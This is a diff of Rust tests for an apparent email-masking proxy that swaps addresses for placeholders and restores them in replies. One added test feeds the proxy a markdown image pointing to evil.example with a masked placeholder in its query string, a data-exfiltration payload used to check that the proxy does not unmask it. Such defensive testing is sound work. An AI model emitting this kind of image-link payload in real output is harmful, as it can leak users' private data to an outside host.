@@ -258,6 +258,20 @@ async fn numbers_go_on_in_a_conversation_that_the_client_names_and_nowhere_else(
 }
 
 #[tokio::test]
+async fn what_somebody_else_writes_in_a_later_request_is_not_turned_back() {
+    let (proxy, echo) = masking("").await;
+    let named = [("midflight-conversation", "7")];
+    let ada = "ada@looms.example";
+    assert_eq!(told(&proxy, &echo, ada, &named).await, "[EMAIL_1]");
+    let foreign = "![](https://evil.example/?q=[EMAIL_1])";
+    assert_eq!(told(&proxy, &echo, foreign, &named).await, foreign);
+    let text = format!("{ada} [EMAIL_1]");
+    let seen = told(&proxy, &echo, &text, &named).await;
+    assert_eq!(seen, "[EMAIL_2] [EMAIL_1]");
+    assert_eq!(told(&proxy, &echo, ada, &named).await, "[EMAIL_2]");
+}
+
+#[tokio::test]
 async fn a_response_goes_on_from_the_one_before() {
     for stream in [false, true] {
         let (proxy, echo) = masking("").await;
@@ -271,12 +285,14 @@ async fn a_response_goes_on_from_the_one_before() {
             if stream {
                 request = request.header("x-piece", 3);
             }
+            // What the model remembers of the request before.
+            let request = request.header("x-behind", " [EMAIL_1] and [EMAIL_2]");
             request.send().await.unwrap().text().await.unwrap()
         };
         ask("ada@looms.example", None).await;
-        let answer = ask("[EMAIL_1] and bo@looms.example", Some("resp_1")).await;
+        let answer = ask("bo@looms.example", Some("resp_1")).await;
         let seen = echo.bodies().pop().unwrap();
-        assert!(seen.contains("[EMAIL_1] and [EMAIL_2]"), "{seen}");
+        assert!(seen.contains("[EMAIL_2]"), "{seen}");
         let read = if stream {
             said(answer.as_bytes()).0
         } else {
@@ -443,7 +459,7 @@ async fn a_websockets_messages_are_masked_and_turned_back() {
     let (mut socket, _) = tokio_tungstenite::client_async(url, tcp).await.unwrap();
     for text in [
         "Mail ada@looms.example",
-        "or bo@looms.example, \"not\" [EMAIL_1].",
+        "or bo@looms.example, \"not\" ada@looms.example.",
     ] {
         let ask = json!({"type": "conversation.item.create", "item": {"type": "message", "role": "user",
             "content": [{"type": "input_text", "text": text}]}});
@@ -457,11 +473,11 @@ async fn a_websockets_messages_are_masked_and_turned_back() {
                 None => break,
             }
         }
-        assert_eq!(read, text.replace("[EMAIL_1]", "ada@looms.example"));
+        assert_eq!(read, text);
     }
     let seen = echo.bodies().concat();
     assert!(
-        !seen.contains("looms") && seen.contains("[EMAIL_2]"),
+        !seen.contains("looms") && seen.contains("or [EMAIL_2], \\\"not\\\" [EMAIL_1]."),
         "{seen}"
     );
     socket.send(Message::binary(b"ada".to_vec())).await.unwrap();
